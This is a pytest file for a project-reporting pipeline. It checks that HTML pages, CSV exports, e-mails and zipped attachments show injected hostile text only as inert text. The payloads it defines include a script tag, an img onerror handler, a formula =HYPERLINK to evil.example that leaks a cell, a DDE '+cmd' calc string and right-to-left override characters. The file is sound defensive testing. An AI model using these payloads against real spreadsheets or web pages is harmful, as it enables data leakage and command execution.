"""Hostile text in the exports is inert everywhere the product shows it: a real `pmo run` on the small demo whose
project names, risk titles, work item summaries and status commentary carry HTML, JavaScript, spreadsheet formulas,
control characters and a right-to-left override. Checked in every page of the pack (parsed, and opened in a real
chromium), every CSV download, every e-mail (both parts) and every file of the zips the e-mails carry."""

import contextlib
import csv
import email
import email.policy
import io
import os
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import polars as pl
import pytest

from pipelines.cli import main
from tests.conftest import SMALL, write_inbox
from transforms.demo_portfolio import generate

DAY = "2026-03-15"
SCRIPT = "<script>window.__pwned = 1; console.error('xss')</script>"
IMG = '<img src=x onerror="window.__pwned = 2">'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
RLO = "\u202e"  # right-to-left override: "invoice\u202etxt.exe" shows as "invoiceexe.txt"
CONTROL = "\x07\x1b[31m"  # a bell and an ANSI colour escape
PAYLOADS = {
    "project name": FORMULA + SCRIPT,
    "second project name": "+cmd|' /C calc'!A0" + IMG,
    "risk title": "-2+3+cmd" + RLO + "txt.exe",
    "summary": "@SUM(1+1)" + IMG,
    "commentary": SCRIPT + CONTROL + "all fine",
    "actions": "\tTAB-led" + RLO,
}
SETTINGS = """\
[email]
sender = "pmo-kpi@example.org"
leadership = ["cio@example.org"]
[email.sponsors]
"Sponsor Almeida" = ["almeida@example.org"]
"Sponsor Berg" = ["berg@example.org"]
"""
SETTINGS_LIMIT = "max_attachment_mb = 50\n"


def _edit(files: dict[str, bytes], name: str, change) -> None:
    frame = pl.read_csv(io.BytesIO(files[name]), infer_schema=False)
    files[name] = change(frame).write_csv().encode()


def hostile_inbox(root: Path) -> Path:
    files = generate(SMALL)
    _edit(files, "pmo/projects.csv", lambda f: f.with_columns(
        name=pl.when(pl.col("project_id") == "PRJ-001").then(pl.lit(PAYLOADS["project name"]))
        .when(pl.col("project_id") == "PRJ-002").then(pl.lit(PAYLOADS["second project name"]))
        .otherwise(pl.col("name"))))  # fmt: skip
    # Risk titles and owners start CSV cells in the downloads (project names follow their id there).
    titles = [PAYLOADS["risk title"], FORMULA, "+cmd|' /C calc'!A0", "\tTAB-led", "\rCR-led"]

    def risks(frame: pl.DataFrame) -> pl.DataFrame:
        new = pl.Series(titles + frame.get_column("title").to_list()[len(titles) :])
        return frame.with_columns(title=new, owner=pl.lit("@SUM(1+1)"))

    _edit(files, "pmo/risks.csv", risks)
    for name in [n for n in files if n.startswith("jira/")]:
        _edit(files, name, lambda f: f.with_columns(Summary=pl.when(pl.int_range(pl.len()) < 3)
              .then(pl.lit(PAYLOADS["summary"])).otherwise(pl.col("Summary"))))  # fmt: skip
    for name in [n for n in files if n.startswith("pmo/status/")]:
        _edit(files, name, lambda f: f.with_columns(
            commentary=pl.lit(PAYLOADS["commentary"]), actions=pl.lit(PAYLOADS["actions"])))  # fmt: skip
    return write_inbox(root / "inbox", files)


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    inbox = hostile_inbox(root)
    home = root / "home"
    home.mkdir()
    (home / "pmo.toml").write_text(SETTINGS.replace("[email]\n", "[email]\n" + SETTINGS_LIMIT), encoding="utf-8")
    with pytest.MonkeyPatch.context() as env:
        for name in ("PMO_HOME", "DAGSTER_HOME", "PMO_SMTP_HOST"):  # the CLI sets the first two; no SMTP: the outbox
            env.setenv(name, os.environ.get(name, ""))
        env.delenv("PMO_SMTP_HOST")
        output = io.StringIO()
        with contextlib.redirect_stdout(output), contextlib.redirect_stderr(output):
            code = main(["run", "--inbox", str(inbox), "--home", str(home), "--as-of", DAY])
    assert code in (0, 3), output.getvalue()
    return home


class Tags(HTMLParser):
    """Every element and attribute of a page, and its text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def _inert_html(html: str, where: str) -> str:
    """Assert no element or attribute came from a payload; return the page's text."""
    parsed = Tags()
    parsed.feed(html)
    for tag, attrs in parsed.elements:
        assert not any(a.startswith("on") for a in attrs), f"{where}: an event handler attribute on <{tag}>"
        assert not (tag == "img" and attrs.get("src") == "x"), f"{where}: the payload's <img> is an element"
        assert not (tag == "script" and "__pwned" in str(attrs)), where
    for needle in (RLO, "\x07", "\x1b"):
        assert needle not in html, f"{where}: {needle!r} reached the page"
    return "".join(parsed.text)


def _inert_csv(text: str, where: str) -> list[str]:
    """Assert no cell would run as a formula in a spreadsheet; return every cell."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    for cell in cells:
        if cell[:1] in ("=", "+", "@", "\t", "\r"):
            raise AssertionError(f"{where}: a cell a spreadsheet would run: {cell[:60]!r}")
        if cell[:1] == "-":
            float(cell.replace(",", ""))  # a negative number is data; anything else starting with "-" fails here
        assert RLO not in cell and "\x07" not in cell, f"{where}: {cell[:60]!r}"
    return cells


def test_every_page_and_csv_of_the_pack_is_inert(home):
    pack = home / "reports" / DAY
    pages = sorted(pack.rglob("*.html"))
    texts = {p.relative_to(pack).as_posix(): _inert_html(p.read_text(encoding="utf-8"), str(p)) for p in pages}
    cells = [c for p in sorted(pack.rglob("*.csv")) for c in _inert_csv(p.read_text(encoding="utf-8"), str(p))]
    # The payloads did reach the pack, shown as text: the test would catch them if escaping stopped.
    shown = "\n".join(texts.values())
    assert SCRIPT in shown and IMG in shown and FORMULA in shown
    assert "all fine" in texts["projects/PRJ-001.html"] and "-2+3+cmdtxt.exe" in shown  # RLO removed, text kept
    # In the CSV downloads, text cells that start like a formula carry a leading apostrophe; numbers do not.
    assert any(FORMULA + SCRIPT in c for c in cells) and any("+cmd|' /C calc'!A0" + IMG in c for c in cells)
    for title in ["-2+3+cmdtxt.exe", FORMULA, "+cmd|' /C calc'!A0", "@SUM(1+1)"]:
        assert "'" + title in cells, title
    assert "TAB-led" in cells  # leading white space is trimmed as the export is read (the CR-led risk is closed)
    assert any(c.startswith("-") and float(c) < 0 for c in cells)


def _eml(home: Path) -> list[email.message.EmailMessage]:
    paths = sorted((home / "outbox").glob("*.eml"))
    assert len(paths) == 3, paths  # cio, almeida, berg
    return [email.message_from_bytes(p.read_bytes(), policy=email.policy.default) for p in paths]


def test_every_email_and_every_file_it_carries_is_inert(home):
    shown = []
    for message in _eml(home):
        where = message["To"]
        html = message.get_body(("html",)).get_content()
        plain = message.get_body(("plain",)).get_content()
        shown.append(_inert_html(html, where) + plain)
        # Plain text shows markup as the characters it is; what it must not carry is what a terminal or a mail
        # reader would act on. A subject with a line end would be a header injection.
        for needle in (RLO, "\x07", "\x1b"):
            assert needle not in plain and needle not in str(message["Subject"]), f"{where}: {needle!r}"
        assert "\n" not in str(message["Subject"]) and "\r" not in str(message["Subject"])
        [attachment] = [p for p in message.walk() if p.get_content_type() == "application/zip"]
        with zipfile.ZipFile(io.BytesIO(attachment.get_payload(decode=True))) as archive:
            for name in archive.namelist():
                if name.endswith(".html"):
                    shown.append(_inert_html(archive.read(name).decode(), f"{where}: {name}"))
                elif name.endswith(".csv"):
                    _inert_csv(archive.read(name).decode(), f"{where}: {name}")
    # PRJ-001's name reaches the leadership message and Almeida's (her project), as text.
    assert sum(FORMULA in text for text in shown) >= 2


@pytest.mark.parametrize("page", ["index.html", "projects/PRJ-001.html", "projects/PRJ-002.html"])
def test_no_payload_runs_in_a_real_browser(home, browser, page):
    opened = browser.open((home / "reports" / DAY / page).as_uri())
    assert opened.problems() == []  # an <img src=x> would be a failed request, a <script> a console error
    assert browser.evaluate("typeof window.__pwned") == "undefined"
    assert browser.evaluate("document.querySelectorAll('img[onerror], [onerror]').length") == 0
